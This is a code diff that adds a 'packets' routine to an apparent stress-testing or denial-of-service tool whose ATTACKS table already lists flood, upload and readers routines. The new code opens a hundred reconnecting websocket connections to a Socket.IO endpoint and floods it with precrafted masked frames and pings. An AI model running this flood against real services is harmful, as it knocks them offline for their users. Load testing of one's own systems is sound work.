@@ -28,6 +28,13 @@ SLOW = 2_000
 READERS = 500
 UPLOAD_BYTES = 1 << 30
 _FLOOD_AT_ONCE = 200
+PACKETS_FROM = 100
+_PACKETS_EACH_S = 0.02
+# Client frames are masked (RFC 6455, section 5.3); with this mask they stay what they are.
+_TINY = tuple(
+    head + b"\0\0\0\0" + packet
+    for head, packet in ((b"\x81\x81", b"3"), (b"\x81\x85", b"430[]"), (b"\x81\x81", b"6"), (b"\x89\x80", b""))
+)
 
 
 class Aim(NamedTuple):
@@ -184,6 +191,38 @@ async def readers(aim: Aim) -> None:
     await _together(sit, READERS)
 
 
+async def packets(aim: Aim) -> None:
+    """Send thousands of packets that mean nothing, and come again when cut off; every other one as many as it may."""
+    loop = asyncio.get_running_loop()
+    handshake = _handshake(f"{_SOCKET_PATH}?EIO=4&transport=websocket", "shop")
+
+    async def chatter(number: int) -> None:
+        tiny = _TINY[number % len(_TINY)] * (2 if number % 2 else 2_000)
+        while not aim.is_over:
+            with suppress(OSError, TimeoutError):
+                connection = await aim.open()
+                try:
+                    await loop.sock_sendall(connection, handshake)
+                    async with asyncio.timeout(5):
+                        answer = await loop.sock_recv(connection, 1024)
+                    aim.seen[answer[9:_STATUS_BYTES].decode(errors="replace")] += 1
+                    await loop.sock_sendall(connection, _CONNECT)
+                    while not aim.is_over:
+                        async with asyncio.timeout(5):
+                            await loop.sock_sendall(connection, tiny)
+                        aim.seen["bytes"] += len(tiny)
+                        with suppress(BlockingIOError):
+                            if not connection.recv(65_536):
+                                break
+                        await asyncio.sleep(_PACKETS_EACH_S)
+                finally:
+                    connection.close()
+            aim.seen["cut off"] += 1
+            await asyncio.sleep(0.2)
+
+    await _together(chatter, PACKETS_FROM)
+
+
 async def _together(one: Callable[[int], Awaitable[None]], count: int) -> None:
     async with asyncio.TaskGroup() as group:
         for number in range(count):
@@ -199,6 +238,7 @@ ATTACKS: Mapping[str, Callable[[Aim], Awaitable[None]]] = {
     "upload": upload,
     "flood": flood,
     "readers": readers,
+    "packets": packets,
 }
 
 
